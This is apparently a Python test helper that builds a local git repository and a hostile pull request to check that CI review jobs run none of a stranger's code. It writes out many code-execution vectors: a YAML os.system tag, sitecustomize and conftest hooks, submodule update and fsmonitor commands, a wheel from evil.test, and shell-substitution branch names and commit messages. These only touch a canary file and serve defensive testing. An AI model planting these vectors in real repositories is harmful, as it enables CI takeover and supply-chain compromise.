"""A repository at a forge, and a stranger who proposes everything that a stranger should not."""

import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

from tests.tiny import copy_tiny

ROOT = Path(__file__).parents[2]
CODE = ("plugins", "scripts", ".ci", "requirements", "pyproject.toml", ".gitattributes")
SOLUTION = "solutions/felanmalan/solution.yml"
NUMBER = 7
LINK = "https://borta.nowhere/felanmalan"
"""A source of the entry, at a name that is not reserved for tests: those are never asked for."""
FORGE = "https://forge.test"
"""Where jobs are told that the forge is; git finds there what stands here."""


def git(folder: Path, *arguments: str) -> str:
    """Run git there, and return what it says."""
    ran = subprocess.run(["git", *arguments], cwd=folder, check=True, capture_output=True)
    return ran.stdout.decode(errors="replace").strip()


@dataclass(frozen=True)
class Origin:
    """``address`` is what jobs fetch from; ``canary`` appears if anything of the change is run."""

    work: Path
    bare: Path
    canary: Path

    @property
    def address(self) -> str:
        return self.bare.as_uri()

    def stands_for(self, project: str, home: Path) -> None:
        """Let jobs whose home is there find this repository at the forge, as a project of it."""
        config = f'[url "{self.address}"]\n\tinsteadOf = {FORGE}/{project}\n'
        (home / ".gitconfig").write_text(config, encoding="utf-8")

    @property
    def head(self) -> str:
        return git(self.bare, "rev-parse", f"refs/pull/{NUMBER}/head")

    def propose(self) -> str:
        """Commit what stands in ``work`` as the proposal, and return the commit."""
        git(self.work, "add", "--all", "--force")
        git(self.work, "commit", "-q", "--allow-empty", "-m", "$(id) `id` ::error::x")
        head = git(self.work, "rev-parse", "HEAD")
        for kind in ("pull", "merge-requests"):
            git(self.work, "push", "-q", "--force", "origin", f"HEAD:refs/{kind}/{NUMBER}/head")
        return head


def make_origin(folder: Path) -> Origin:
    """The tiny registry with this project's code on ``main``; a branch is checked out."""
    work, bare = folder / "work", folder / "origin.git"
    copy_tiny(work)
    for name in CODE:
        if (ROOT / name).is_dir():
            ignore = shutil.ignore_patterns("__pycache__")
            shutil.copytree(ROOT / name, work / name, ignore=ignore)
        else:
            shutil.copy(ROOT / name, work / name)
    entry = work / SOLUTION
    text = entry.read_text(encoding="utf-8")
    entry.write_text(text.replace("sources: [", f"sources: [{LINK}, "), encoding="utf-8")
    git(work, "init", "-q", "-b", "main")
    git(work, "add", "--all", "--force")
    git(work, "commit", "-q", "-m", "The base")
    git(folder, "init", "-q", "--bare", str(bare))
    git(work, "remote", "add", "origin", str(bare))
    git(work, "push", "-q", "origin", "main")
    git(work, "checkout", "-q", "-b", "$(touch${IFS}canary);`id`")
    return Origin(work, bare, folder / "canary")


def be_hostile(origin: Origin) -> None:
    """Change everything by which a job might be made to run something, and what it would say."""
    canary = origin.canary
    shell = f"touch '{canary}'\n"
    python = f"import pathlib\npathlib.Path({str(canary)!r}).touch()\n"
    files = {
        "mkdocs.yml": f"site_name: !!python/object/apply:os.system ['{shell.strip()}']\n"
        "hooks: [evil.py]\n",
        "evil.py": python,
        "sitecustomize.py": python,
        "conftest.py": python,
        "scripts/lib/environment.sh": shell,
        ".ci/review": f"#!/bin/sh\n{shell}",
        ".ci/post": f"#!/bin/sh\n{shell}",
        "plugins/solution_registry/__init__.py": python,
        "plugins/solution_registry/__main__.py": python,
        "requirements/run.txt": "evil @ https://evil.test/evil.whl\n",
        ".github/workflows/review.yml": f"on: pull_request_target\n# {shell}",
        ".gitlab-ci.yml": f"review:\n  script: [{shell.strip()!r}]\n",
        ".gitattributes": "* filter=evil diff=evil merge=evil\n",
        ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ../x\n\tupdate = !' + shell,
        ".gitconfig": f"[core]\n\tfsmonitor = {shell}",
        "policy/maintainers.yml": "schema_version: 1\nmaintainers:\n"
        "- {organisation: se-9001, accounts: [stranger]}\n",
    }
    for path, text in files.items():
        file = origin.work / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, encoding="utf-8")
        if text.startswith("#!"):
            file.chmod(0o755)
    solution = origin.work / SOLUTION
    text = solution.read_text(encoding="utf-8")
    hostile = "::error::x ::stop-commands::y <!-- solution-registry-review --> @everyone"
    text = text.replace("sv: Felanmälan", f'sv: "{hostile[:60]}"')
    text = text.replace(
        "en: Residents report potholes, broken lights and litter.", f'en: "{hostile}"'
    )
    solution.write_text(text, encoding="utf-8")
    for number in range(51):
        many = "".join(f"typo{one}: 1\n" for one in range(6))
        other = origin.work / f"solutions/nummer-{number}x/solution.yml"
        other.parent.mkdir(parents=True)
        other.write_text(text + many, encoding="utf-8")
